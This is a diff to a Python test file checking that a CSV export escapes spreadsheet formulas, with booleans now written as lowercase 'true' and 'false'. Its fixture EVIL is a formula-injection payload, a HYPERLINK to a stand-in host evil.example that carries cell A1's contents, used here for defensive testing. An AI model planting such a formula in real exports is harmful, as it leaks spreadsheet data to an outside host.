@@ -75,7 +75,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 def test_the_csv_cell_quotes_what_a_spreadsheet_reads_as_a_formula_and_keeps_numbers():
     for text in (EVIL, "+1+2", "-1+2", "@SUM(A1)", "\tx", "\rx"):
         assert csv_cell(text) == "'" + text
-    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(0) == 0 and csv_cell(True) is True
+    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(0) == 0 and csv_cell(True) == "true" and csv_cell(False) == "false"
     assert csv_cell(None) == "" and csv_cell("split_k") == "split_k" and csv_cell("a=b") == "a=b"
     assert csv_text([{"a": -1.5, "b": "-x"}], ["a", "b"]) == "a,b\n-1.5,'-x\n"
 
@@ -87,9 +87,9 @@ def test_the_kernel_job_csv_export_neutralises_formulas_and_keeps_negative_numbe
     for resp in (viewer_api.get(f"/api/kernel-jobs/{measured_job.pk}/export/", {"format": "csv"}),
                  _page(viewer).get(f"/kernels/jobs/{measured_job.pk}/export.csv")):
         assert resp.status_code == 200
-        row = next(r for r in _rows(resp.content) if r["correct"] == "False")
+        row = next(r for r in _rows(resp.content) if r["correct"] == "false")
         assert row["error"] == "'" + EVIL and row["max_abs_err"] == "-0.5"
-        assert float(next(r for r in _rows(resp.content) if r["correct"] == "True")["median_us"]) > 0
+        assert float(next(r for r in _rows(resp.content) if r["correct"] == "true")["median_us"]) > 0
 
 
 def test_the_benchmark_run_and_sweep_csv_exports_neutralise_formulas(viewer_api, seed_pd_sweep):
